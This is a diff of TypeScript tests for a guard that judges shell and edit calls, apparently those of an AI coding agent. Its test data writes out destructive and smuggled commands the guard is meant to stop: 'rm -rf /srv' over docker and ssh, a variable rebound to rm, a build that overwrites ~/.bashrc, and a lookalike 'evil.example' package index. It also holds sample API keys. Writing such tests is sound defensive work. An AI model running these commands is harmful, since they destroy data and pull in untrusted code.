@@ -338,3 +338,104 @@ describe("clusters for trying out, services of the person's own and packages by 
     "clean-install bash -c 'rm -rf data'",
   ])("%s is still stopped", (command) => expect(judge(command)).toMatch(/^(?:ask|deny|rewrite)$/));
 });
+
+describe("what the project itself names, builds and runs passes", () => {
+  const own = (uncommitted: readonly string[] = []) => ({
+    ...worldOf({
+      files: [...FILES, "package.json", "pyproject.toml", "README.md", "run.sh", "purge.sh", "main.go"],
+      texts: Object.fromEntries(
+        [
+          ["package.json", '{ "name": "own-tool" }'],
+          ["pyproject.toml", '[project]\nname = "own-py"\n'],
+          ["README.md", "docker run ghcr.io/somebody/own-tool, or brew install somebody/own/tool"],
+          ["run.sh", "echo run"],
+          ["purge.sh", "rm -rf data"],
+        ].map(([name, text]) => [`/home/u/proj/${name}`, text ?? ""]),
+      ),
+    }),
+    isCommitted: (path: string) => !uncommitted.includes(path.slice("/home/u/proj/".length)),
+  });
+  const judged = (command: string, uncommitted: readonly string[] = []) => judgeAlone({ tool: "shell", command }, own(uncommitted)).verdict;
+
+  test.each([
+    "npx own-tool --help",
+    "pipx run own-py",
+    "uvx own-py",
+    "npx --prefix ../other tsc --noEmit",
+    "docker run --rm ghcr.io/somebody/own-tool:latest",
+    "brew install somebody/own/tool",
+    "go run -exec ./run.sh main.go",
+    "go build -o /tmp/app . && /tmp/app --version",
+    "$PYTHON -m pytest",
+    "${PYTHON:-python3} -m pytest",
+    "$CC -o y y.c",
+    "pip install --extra-index-url https://www.piwheels.org/simple numpy",
+    "docker exec web useradd deploy",
+    "docker exec web bash -c 'apt-get upgrade -y'",
+    "ssh host 'logread | tail -30'",
+  ])("%s", (command) => expect(judged(command)).toBe("allow"));
+
+  test.each([
+    "npx other-tool",
+    "npx --prefix ../other other-tool",
+    "docker run --rm ghcr.io/somebody/other",
+    "docker run --privileged ghcr.io/somebody/own-tool",
+    "brew install somebody/other/tool",
+    "go run -exec 'rm -rf data' main.go",
+    "go test -toolexec ./run.sh ./...",
+    "go build -o ~/.bashrc .",
+    "cd /tmp/x && go build -o app . && ./app",
+    "$PYTHON -c 'import shutil; shutil.rmtree(\"data\")'",
+    "PYTHON=rm; $PYTHON -rf data",
+    "read PYTHON < notes.txt; $PYTHON -rf data",
+    "$BUILD_CMD test",
+    "$GIT push --force",
+    "pip install --extra-index-url https://www.piwheels.org.evil.example/simple numpy",
+    "docker exec web rm -rf /srv",
+    "docker exec --privileged web useradd deploy",
+    "useradd deploy",
+    "apt-get upgrade -y",
+    "ssh host useradd deploy",
+    "ssh host 'logread; rm -rf /srv'",
+  ])("%s is still stopped", (command) => expect(judged(command)).toMatch(/^(?:ask|deny|rewrite)$/));
+
+  test("not while Git has another text of the file that names it", () => {
+    expect(judged("npx own-tool", ["package.json"])).toBe("ask");
+    expect(judged("uvx own-py", ["pyproject.toml"])).toBe("ask");
+    expect(judged("docker run ghcr.io/somebody/own-tool", ["README.md"])).toBe("ask");
+    expect(judged("go run -exec ./purge.sh main.go", ["purge.sh"])).toBe("ask");
+  });
+});
+
+describe("git rm keeps a copy of what it deletes", () => {
+  test.each(["git rm data/1.csv", "git rm -r data", "git rm -rfq -- data"])("%s", (command) => {
+    const verdict = judgeAlone({ tool: "shell", command }, WORLD);
+    expect(verdict.verdict).toBe("rewrite");
+    expect(verdict.call).toMatchObject({ command: expect.stringMatching(/^codicil trash keep data\S* && git rm /) as string });
+  });
+
+  test.each([
+    ["git rm 'data/*'", "ask"],
+    ["git rm -r .", "deny"],
+    ["git rm AGENTS.md", "deny"],
+    ["git rm -r memory-bank", "deny"],
+  ])("%s: %s", (command, verdict) => expect(judge(command)).toBe(verdict));
+});
+
+describe("a key in plain text", () => {
+  const KEYS = [`sk_${"live"}_51Hx8zQKq2mVbT9rYw3LpNc7d`, `gh${"p"}_Zk3mQ9rT7vXw2LpNc8dFgUa0eJhB5sYi1oPq`];
+  const edit = (path: string, text: string): Call => ({ tool: "Edit", input: { file_path: path, old_string: "a", new_string: text } });
+  const verdictOn = (call: Call) => judgeAlone(call, WORLD).verdict;
+
+  test.each(KEYS)("that is written into the project is asked about: %s", (key) => {
+    expect(verdictOn(edit("/home/u/proj/src/a.ts", `const key = "${key}";`))).toBe("ask");
+    expect(judge(`echo 'key = "${key}"' >> src/a.ts`)).toBe("ask");
+  });
+
+  test.each(KEYS)("passes in .env, in tests and guides, and where it is made up: %s", (key) => {
+    for (const path of [".env", "test/a.test.ts", "docs/keys.md", "src/example.ts"])
+      expect(verdictOn(edit(`/home/u/proj/${path}`, key))).toBe("allow");
+    expect(verdictOn(edit("/home/u/proj/src/a.ts", `${key.slice(0, 20)}aaaaaaaaaaaaaaaaaaaaaaaaaa`))).toBe("allow");
+    expect(verdictOn(edit("/home/u/proj/src/a.ts", "process.env.STRIPE_KEY"))).toBe("allow");
+  });
+});
